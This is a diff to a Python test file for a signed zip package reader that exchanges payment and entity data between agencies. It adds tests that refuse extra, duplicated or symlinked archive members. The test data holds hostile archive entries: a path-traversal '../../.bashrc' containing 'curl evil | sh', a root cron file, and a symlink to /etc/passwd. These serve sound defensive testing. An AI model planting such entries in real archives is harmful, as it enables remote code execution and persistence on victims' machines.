@@ -10,9 +10,11 @@ from __future__ import annotations
 
 import io
 import json
+import stat
 import struct
 import uuid
 import zipfile
+from collections.abc import Sequence
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -79,14 +81,15 @@ def _package(
     parquet: bytes | None = None,
     rows: int = 1,
     manifest_text: bytes | None = None,
-    members: list[tuple[str, bytes]] | None = None,
-    extra: list[tuple[str, bytes]] = (),  # type: ignore[assignment]
+    members: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None,
+    extra: Sequence[tuple[str | zipfile.ZipInfo, bytes]] = (),
+    prepend: Sequence[tuple[str | zipfile.ZipInfo, bytes]] = (),
 ) -> bytes:
     """A package `sender` really signed to `recipient`, its zip written member by member.
 
     By default the three members of a package with a manifest that agrees with its envelope;
-    `manifest_text` replaces the manifest's bytes, `members` the whole member list and `extra`
-    adds members after the three.
+    `manifest_text` replaces the manifest's bytes, `members` the whole member list; `prepend`
+    and `extra` add members before and after the three.
     """
     parquet = _payments() if parquet is None else parquet
     secret = sender.identity.unlock(sender.identity.active.key_id, sender.passphrase)
@@ -124,6 +127,7 @@ def _package(
     }
     if members is None:
         members = [
+            *prepend,
             (MANIFEST_FILE, manifest_text or json.dumps(manifest).encode()),
             (ENTITIES_FILE, lines),
             (TRANSACTIONS_FILE, parquet),
@@ -323,3 +327,56 @@ def test_a_payment_id_twice_is_refused_naming_it_and_its_rows(
     table = _table(tx_id=["p1", "p2", "p3", "p2"])
     data = _package(ppatk, rosfin, parquet=parquet_bytes(table), rows=4)
     _refused(rosfin, data, f"{TRANSACTIONS_FILE} row 4: payment 'p2' is also row 2")
+
+
+# --- the zip: exactly the three members, once each, plain files ------------------------------
+
+
+def _symlink(name: str, target: bytes) -> tuple[zipfile.ZipInfo, bytes]:
+    info = zipfile.ZipInfo(name)
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return info, target
+
+
+@pytest.mark.parametrize(
+    ("extra", "reason"),
+    [
+        ([("../../.bashrc", b"curl evil | sh")], r"'\.\./\.\./\.bashrc'"),
+        ([("/etc/cron.d/jalur", b"* * * * * root sh")], "'/etc/cron.d/jalur'"),
+        ([("notes.txt", b"")], "'notes.txt'"),
+    ],
+)
+def test_a_member_a_package_does_not_have_is_refused_naming_it(
+    agencies: tuple[Agency, Agency, Agency], extra: list[tuple[str, bytes]], reason: str
+) -> None:
+    """Once skipped without a word: what else did the partner put in, and why?"""
+    ppatk, rosfin, _ = agencies
+    data = _package(ppatk, rosfin, extra=extra)
+    _refused(rosfin, data, f"payload is not a jalur package: .*{reason}")
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_a_member_written_twice_is_refused(agencies: tuple[Agency, Agency, Agency]) -> None:
+    """Two `entities.ftm.jsonl`: we read the last, `unzip` by hand shows the first."""
+    ppatk, rosfin, _ = agencies
+    shown = _lines(_person("a1", "Abu Rusdan"))
+    hidden = _lines(_person("z9", "Innocent Person"))
+    data = _package(ppatk, rosfin, lines=shown, entity_count=1, prepend=[(ENTITIES_FILE, hidden)])
+    _refused(rosfin, data, f"payload is not a jalur package: .*'{ENTITIES_FILE}' twice")
+
+
+def test_a_member_that_is_a_link_is_refused(agencies: tuple[Agency, Agency, Agency]) -> None:
+    ppatk, rosfin, _ = agencies
+    data = _package(ppatk, rosfin, extra=[_symlink("link", b"/etc/passwd")])
+    _refused(rosfin, data, "payload is not a jalur package: .*'link'")
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_an_offer_with_a_member_twice_is_refused() -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("offer.json", b"{}")
+        archive.writestr("offer.json", b"{}")
+        archive.writestr("encodings.npz", b"")
+    with pytest.raises(PackageRejectedError, match=r"not a match offer: .*'offer\.json' twice"):
+        read_offer(buffer.getvalue(), "offer")
